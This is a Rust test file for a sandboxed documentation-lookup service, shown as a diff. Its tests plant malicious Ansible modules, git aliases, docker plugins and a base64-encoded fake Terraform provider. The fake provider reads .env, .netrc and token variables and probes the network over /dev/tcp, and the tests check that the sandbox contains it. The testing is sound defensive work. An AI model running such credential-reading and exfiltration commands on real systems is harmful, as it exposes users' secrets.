@@ -1,0 +1,267 @@
+//! Documentation, looked up for real: what comes, and what a workspace cannot have a say in.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod support;
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use protocol::{Answer, ManualKind, PAGE_BYTES, Question, Topic, Wish};
+use sha2::{Digest, Sha256};
+use support::{Agent, Gateway, sandbox};
+use tokio::net::TcpListener;
+
+/// The text that no documentation may show.
+const CANARY: &str = "canary-7f3a";
+
+fn topic(kind: ManualKind, name: &str) -> Topic {
+    Topic::try_from(Wish { kind, name: name.to_owned(), folder: None }).unwrap()
+}
+
+async fn ask(gateway: &mut Gateway, topic: Topic, from: usize) -> Answer {
+    let request_id = format!("{topic:?} {from}");
+    gateway.ask(&request_id, Question::LookUp { topic, from }, CANARY).await
+}
+
+async fn look_up(gateway: &mut Gateway, kind: ManualKind, name: &str) -> String {
+    match ask(gateway, topic(kind, name), 0).await {
+        Answer::Page { text, .. } => text,
+        other => panic!("{name}: {other:?}"),
+    }
+}
+
+async fn missing(gateway: &mut Gateway, kind: ManualKind, name: &str) -> String {
+    match ask(gateway, topic(kind, name), 0).await {
+        Answer::NoPage { reason } => reason,
+        other => panic!("{name}: {other:?}"),
+    }
+}
+
+async fn runs(gateway: &mut Gateway, run_id: &str, script: &str) -> String {
+    let report = gateway.run(run_id, script).await;
+    assert_eq!(report.exit_code, Some(0), "{}{}", report.head, report.tail);
+    report.head
+}
+
+#[tokio::test]
+async fn a_programs_help_comes_in_pages_that_join() {
+    let (mut gateway, _agent) = sandbox().await;
+    let (mut from, mut whole, mut pages) = (0, String::new(), 0);
+    loop {
+        let answer = ask(&mut gateway, topic(ManualKind::Program, "tar"), from).await;
+        let Answer::Page { text, next } = answer else { panic!("{answer:?}") };
+        assert!(text.len() <= PAGE_BYTES);
+        whole.push_str(&text);
+        pages += 1;
+        let Some(next) = next else { break };
+        from = next;
+    }
+    assert!(pages > 1 && whole.contains("--exclude-vcs"), "{pages}: {whole}");
+    let output = std::process::Command::new("tar").arg("--help").output().unwrap();
+    let said = String::from_utf8(output.stdout).unwrap();
+    let words = |text: &str| text.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
+    assert_eq!(words(&whole), words(&said), "no line is missing, and none comes twice");
+    let plan = look_up(&mut gateway, ManualKind::Program, "terraform plan").await;
+    assert!(plan.contains("-detailed-exitcode"), "{plan}");
+    let commit = look_up(&mut gateway, ManualKind::Program, "git commit").await;
+    assert!(commit.contains("--amend"), "{commit}");
+    if !Path::new("/usr/bin/promtool").exists() {
+        let reason = missing(&mut gateway, ManualKind::Program, "promtool check").await;
+        assert!(reason.contains("is not installed"), "{reason}");
+    }
+}
+
+#[tokio::test]
+async fn a_manual_page_is_plain_text_where_there_are_manuals() {
+    let (mut gateway, _agent) = sandbox().await;
+    let has = |file: &str| Path::new(file).exists();
+    if has("/usr/share/man/man1/ls.1.gz") && has("/usr/bin/groff") {
+        let page = look_up(&mut gateway, ManualKind::Manual, "ls(1)").await;
+        assert!(page.contains("\nNAME\n") && page.contains("list directory contents"), "{page}");
+        assert!(!page.contains(['\u{8}', '\u{1b}']), "{page}");
+        let reason = missing(&mut gateway, ManualKind::Manual, "no-such-page").await;
+        assert!(reason.contains("no manual page `no-such-page`"), "{reason}");
+    } else {
+        let reason = missing(&mut gateway, ManualKind::Manual, "ls(1)").await;
+        assert!(reason.contains("no manual page"), "{reason}");
+    }
+}
+
+/// Ansible's tools and the Python that they run on, in the versions of the repository's other tests.
+fn ansible() -> (PathBuf, PathBuf, String) {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
+    let tools = Command::new("bash").arg(root.join("infra/blueprint/tools.sh")).status();
+    assert!(tools.unwrap().success(), "infra/blueprint/tools.sh");
+    let tools = root.join("target/blueprint-tools/venv").canonicalize().unwrap();
+    let which = "import sys; print(sys.base_prefix, 'python%d.%d' % sys.version_info[:2])";
+    let said = Command::new(tools.join("bin/python3")).args(["-c", which]).output().unwrap();
+    let said = String::from_utf8(said.stdout).unwrap();
+    let (python, version) = said.trim().rsplit_once(' ').unwrap();
+    (tools, PathBuf::from(python), version.to_owned())
+}
+
+/// What a module path or a home of the project's would bring in.
+const PLANT_A_MODULE: &str = "mkdir -p library \"$HOME/.ansible/plugins/modules\"
+printf '[defaults]\\nlibrary = %s\\n' \"$PWD/library\" | tee ansible.cfg ansible/ansible.cfg > \"$HOME/.ansible.cfg\"
+printf \"DOCUMENTATION = '''\\nmodule: planted\\nshort_description: x-canary-7f3a\\ndescription: x-canary-7f3a\\n'''\\n\" |
+    tee library/planted.py library/copy.py > \"$HOME/.ansible/plugins/modules/planted.py\"";
+
+#[tokio::test]
+async fn a_module_of_ansible_is_that_of_the_image_whatever_the_workspace_says() {
+    let bin = tempfile::tempdir().unwrap();
+    let program = bin.path().join("ansible-doc");
+    let (tools, python, version) = ansible();
+    // A reader sees programs in the system's folders alone, so all of it stands in such folders.
+    let line = format!(
+        "#!/bin/sh
+PYTHONPATH=/usr/local/src/lib/{version}/site-packages exec /usr/local/games/bin/{version} /usr/local/src/bin/ansible-doc \"$@\"\n"
+    );
+    fs::write(&program, line).unwrap();
+    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
+    let mut gateway = Gateway::start().await;
+    let places = [
+        (tools.as_path(), "/usr/local/src"),
+        (python.as_path(), "/usr/local/games"),
+        (bin.path(), "/usr/local/sbin"),
+    ];
+    let _agent = Agent::start_where(&gateway, &places);
+    gateway.hello().await;
+    runs(&mut gateway, "r1", PLANT_A_MODULE).await;
+    let found = runs(&mut gateway, "r2", "/usr/local/sbin/ansible-doc -t module planted").await;
+    assert!(found.contains("x-canary"), "an approved command finds it: {found}");
+
+    let copy = look_up(&mut gateway, ManualKind::AnsibleModule, "ansible.builtin.copy").await;
+    assert!(copy.contains("- backup") && copy.contains("remote_src"), "{copy}");
+    assert!(!copy.contains("canary") && !copy.contains('\u{1b}'), "{copy}");
+    let short = look_up(&mut gateway, ManualKind::AnsibleModule, "copy").await;
+    assert!(short.contains("- backup"), "{short}");
+    let list = look_up(&mut gateway, ManualKind::AnsibleModules, "apt").await;
+    let names: Vec<_> = list.lines().filter_map(|line| line.split_whitespace().next()).collect();
+    assert!(names.contains(&"ansible.builtin.apt_key"), "{list}");
+    assert!(names.iter().all(|name| name.contains("apt")), "{list}");
+    let reason = missing(&mut gateway, ManualKind::AnsibleModule, "planted").await;
+    assert!(reason.contains("no module `planted`") && !reason.contains("canary"), "{reason}");
+    missing(&mut gateway, ManualKind::AnsibleModules, "planted").await;
+}
+
+#[tokio::test]
+async fn a_type_of_terraforms_own_needs_no_provider_and_others_need_an_init() {
+    let (mut gateway, _agent) = sandbox().await;
+    let data = look_up(&mut gateway, ManualKind::TerraformResource, "terraform_data").await;
+    assert!(
+        data.starts_with("resource terraform_data of terraform.io/builtin/terraform"),
+        "{data}"
+    );
+    assert!(data.contains("- triggers_replace  dynamic\n") && data.contains("< output"), "{data}");
+    let state =
+        look_up(&mut gateway, ManualKind::TerraformDataSource, "terraform_remote_state").await;
+    assert!(state.contains("= backend  string\n    The remote backend to use"), "{state}");
+    let reason = missing(&mut gateway, ManualKind::TerraformResource, "aws_instance").await;
+    assert!(reason.contains("`terraform init` has not run in terraform"), "{reason}");
+    let lock = "printf 'provider \"registry.terraform.io/hashicorp/aws\" {\\n  version = \"6.2.0\"\\n}\\n' > terraform/.terraform.lock.hcl";
+    runs(&mut gateway, "r1", lock).await;
+    // Another line than the first, so that it is another request.
+    let aws = topic(ManualKind::TerraformResource, "aws_instance");
+    let Answer::NoPage { reason } = ask(&mut gateway, aws, 1).await else { panic!() };
+    assert!(reason.contains("aws 6.2.0 is not installed"), "{reason}");
+    let reason = missing(&mut gateway, ManualKind::TerraformResource, "hcloud_server").await;
+    assert!(reason.contains("Installed are: registry.terraform.io/hashicorp/aws."), "{reason}");
+}
+
+/// A program in a provider's place, which takes what it can reach and tells it in a form that no mask knows. Only a sandbox
+/// runs it.
+fn planted(port: u16) -> String {
+    format!(
+        "#!/bin/bash
+taken=$(cat /home/*/workspace/notes.txt /home/*/workspace/.env /home/*/.netrc /tmp/plain.txt 2>/dev/null | tr 'a-z' 'b-za')
+[ -z \"$TOKEN\" ] || taken+=' token'
+for host in 127.0.0.1 10.0.2.2; do (echo x > /dev/tcp/$host/{port}) 2>/dev/null && taken+=' network'; done
+for place in /home/*/workspace /home/*; do (echo x > $place/left) 2>/dev/null && taken+=' wrote'; done
+(echo x >> /home/*/workspace/notes.txt) 2>/dev/null && taken+=' changed'
+echo \"it ran and has [$taken]\"
+"
+    )
+}
+
+/// Terraform's own checksum of a folder with one file.
+fn checksum(name: &str, content: &str) -> String {
+    let file = hex::encode(Sha256::digest(content));
+    let all = Sha256::digest(format!("{file}  {name}\n"));
+    format!("h1:{}", STANDARD.encode(all))
+}
+
+#[tokio::test]
+async fn a_planted_provider_reaches_no_secret_no_network_and_no_file() {
+    const NAME: &str = "terraform-provider-evil_v1.0.0";
+    let (mut gateway, agent) = sandbox().await;
+    let outside = TcpListener::bind("0.0.0.0:0").await.unwrap();
+    let program = planted(outside.local_addr().unwrap().port());
+    let platform = if cfg!(target_arch = "aarch64") { "linux_arm64" } else { "linux_amd64" };
+    let address = "registry.terraform.io/evil/evil";
+    let package = format!("terraform/.terraform/providers/{address}/1.0.0/{platform}");
+    let lock = format!(
+        "provider \"{address}\" {{\n  version = \"1.0.0\"\n  hashes = [\"{}\"]\n}}\n",
+        checksum(NAME, &program)
+    );
+    let plant = format!(
+        "echo {CANARY} | tee notes.txt .env ~/.netrc > /tmp/plain.txt
+mkdir -p {package}
+echo {} | base64 --decode > {package}/{NAME}
+chmod +x {package}/{NAME}
+echo {} | base64 --decode > terraform/.terraform.lock.hcl
+printf 'provider_installation {{\\n  dev_overrides {{ \"evil/evil\" = \"%s\" }}\\n  direct {{}}\\n}}\\n' \"$PWD\" > ~/.terraformrc",
+        STANDARD.encode(&program),
+        STANDARD.encode(&lock)
+    );
+    runs(&mut gateway, "r1", &plant).await;
+    // What an approved command starts does reach the files, so the canaries are in place.
+    let reached = runs(&mut gateway, "r2", &format!("TOKEN=x bash {package}/{NAME}")).await;
+    for had in ["dbobsz-7g3b", " token", " wrote", " changed"] {
+        assert!(reached.contains(had), "{had}: {reached}");
+    }
+    runs(&mut gateway, "r3", &format!("rm left ~/left; echo {CANARY} > notes.txt")).await;
+
+    let reason = missing(&mut gateway, ManualKind::TerraformResource, "evil_thing").await;
+    assert!(reason.contains("it ran and has []"), "{reason}");
+    let silent = tokio::time::timeout(Duration::ZERO, outside.accept()).await;
+    assert!(silent.is_err(), "something connected");
+    let notes = fs::read_to_string(agent.workspace().join("notes.txt")).unwrap();
+    assert_eq!(notes, format!("{CANARY}\n"));
+    let left =
+        runs(&mut gateway, "r4", "ls -d left ~/left /tmp/answer-* 2>/dev/null || true").await;
+    assert_eq!(left, "", "nothing is left");
+
+    // A program that was exchanged after `init` does not start, and a link is not followed.
+    runs(&mut gateway, "r5", &format!("echo '# more' >> {package}/{NAME}")).await;
+    let reason = missing(&mut gateway, ManualKind::TerraformDataSource, "evil_thing").await;
+    assert!(reason.contains("checksum") && !reason.contains("it ran"), "{reason}");
+    let moves = format!("mv {package} elsewhere; ln -s \"$PWD/elsewhere\" {package}");
+    runs(&mut gateway, "r6", &moves).await;
+    let reason = missing(&mut gateway, ManualKind::TerraformResource, "evil_other").await;
+    assert!(reason.contains("is a link to somewhere else"), "{reason}");
+}
+
+#[tokio::test]
+async fn git_and_docker_take_nothing_from_the_project_or_the_home() {
+    let (mut gateway, _agent) = sandbox().await;
+    let plant = "mkdir -p ~/.docker/cli-plugins ~/.local/bin
+git init -q . && git config alias.planted '!echo planted' && git config core.pager 'echo planted'
+printf '#!/bin/sh\\necho planted\\n' | tee ~/.docker/cli-plugins/docker-planted > ~/.local/bin/tar
+chmod +x ~/.docker/cli-plugins/docker-planted ~/.local/bin/tar
+git planted; tar";
+    let found = runs(&mut gateway, "r1", plant).await;
+    assert_eq!(found, "planted\nplanted\n", "an approved command finds them");
+    for name in ["git planted", "tar"] {
+        let help = look_up(&mut gateway, ManualKind::Program, name).await;
+        assert!(help.lines().all(|line| line != "planted"), "{name}: {help}");
+    }
+    if Path::new("/usr/bin/docker").exists() {
+        let help = look_up(&mut gateway, ManualKind::Program, "docker planted").await;
+        assert!(help.lines().all(|line| line != "planted"), "{help}");
+    }
+}
